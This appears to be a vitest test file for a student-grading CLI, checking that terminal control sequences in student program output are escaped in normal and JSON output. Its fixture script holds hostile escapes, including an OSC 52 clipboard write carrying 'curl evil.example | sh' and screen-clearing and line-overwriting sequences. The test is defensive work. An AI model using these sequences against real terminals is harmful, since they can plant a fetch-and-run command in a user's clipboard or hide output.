/**
 * Students against the people and pages that read their text and names: terminal control sequences
 * in program output must not reach an instructor's terminal, nicknames must not pass for someone
 * else, and one student must not become two by changing the case of their repository name.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { GradingResult } from '../../src/results/results.js';
import { gradebot } from '../helpers/cli.js';
import { FIXTURES } from '../helpers/grading.js';

const COURSE = path.join(FIXTURES, 'adversarial', 'course');
/** Every control character a terminal could act on; newline and tab are text. */
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const RAW_CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F]/u;

describe('terminal control sequences in student output', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), 'gradebot-escapes-'));
    // OSC 52 sets the reader's clipboard; CSI clears the screen and moves the cursor; U+009B is the
    // 8-bit CSI; a lone carriage return overwrites the line; DEL and BEL, on stdout and stderr both.
    const clipboard = Buffer.from('curl evil.example | sh\n').toString('base64');
    await writeFile(
      path.join(dir, 'attack.sh'),
      [
        `printf '\\033]52;c;${clipboard}\\007'`,
        `printf '\\033[2J\\033[H\\033[31mscreen cleared\\033[0m\\n'`,
        `printf '\\302\\2336nC1 CSI\\n'`,
        `printf 'hidden\\rshown\\177\\n'`,
        `printf '\\033]0;new title\\007\\033[1Ato stderr\\n' >&2`,
      ].join('\n'),
    );
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  const grade = (...more: string[]) =>
    gradebot(
      'grade',
      dir,
      '--course',
      COURSE,
      '--assignment',
      'attack',
      '--submitted-at',
      '2026-12-01T00:00:00Z',
      ...more,
    );

  it('shows them escaped in `gradebot grade`, never raw', async () => {
    const { code, stdout, stderr } = await grade();
    expect(code).toBe(0);
    expect(stdout).toContain('\\u001b]52;c;');
    expect(stdout).toContain('\\u009b6nC1 CSI');
    expect(stdout).not.toMatch(RAW_CONTROL);
    expect(stderr).not.toMatch(RAW_CONTROL);
  });

  it('keeps `--json` valid and exact while escaping what JSON leaves raw', async () => {
    const { code, stdout, stderr } = await grade('--json');
    expect(code).toBe(0);
    expect(stdout).not.toMatch(RAW_CONTROL);
    expect(stderr).not.toMatch(RAW_CONTROL);
    const result = JSON.parse(stdout) as GradingResult;
    const output = result.tests.find((test) => test.name === 'attack')!.output;
    expect(output).toContain('\u001b]52;c;');
    expect(output).toContain('\u009b6nC1 CSI');
  });
});
